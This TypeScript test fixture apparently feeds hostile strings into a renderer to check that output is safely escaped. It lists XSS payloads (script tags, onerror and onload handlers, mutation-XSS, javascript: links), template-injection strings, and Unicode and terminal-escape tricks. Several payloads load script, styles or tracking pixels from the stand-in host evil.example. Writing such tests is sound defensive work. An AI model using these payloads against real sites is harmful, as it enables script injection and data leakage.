/** Each tries to become more than text. `pwned` is what any of them would set, evil.example what any of them would ask. */
export const hostileTexts = [
  '<script>window.pwned=1</script>',
  '</script><script src=https://evil.example/a.js></script>',
  '"><img src=https://evil.example/x.png onerror=window.pwned=1>',
  `'-alert(1)-'`,
  '<svg/onload=window.pwned=1><animate onbegin=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  '<style>@import "https://evil.example/a.css"; *{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/a.css><link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><button autofocus onfocus=window.pwned=1>Save</button></form>',
  '</title></textarea></noscript></template><body onpageshow=window.pwned=1>',
  '<!--<img src="--><img src=x onerror=window.pwned=1//">',
  '[free](javascript:window.pwned=1) [x](data:text/html,<script>parent.pwned=1</script>)',
  '![pixel](https://evil.example/pixel.png) https://evil.example/?q=<b>',
  '<a href=" &#1;javascript:window.pwned=1" ping=https://evil.example/>win</a>',
  '{{constructor.constructor("window.pwned=1")()}} #{7*7} <%= 7*7 %>',
  '0:["$","script",null,{"children":"window.pwned=1"}] $L1 $@2 $undefined',
  '__proto__ constructor toString hasOwnProperty',
  '\u202Egnp.exe\u202C \u2066\u2067turned\u2069 \u200Ezero\u200Bwidth\u200D\uFEFF \u00ADsoft \u{E0041}tag',
  `Z${'\u0335\u0336\u0337\u0338'.repeat(60)}algo`,
  'ﷺ'.repeat(60),
  '\u0007\u001B[31mred\u001B[0m \u0085 \u2028 \u2029 end',
] as const

/** What a browser would have to lay out at once if nobody cut it: one line without a place to break it. */
export const endlessText = `<b>${'W'.repeat(150_000)}</b>`
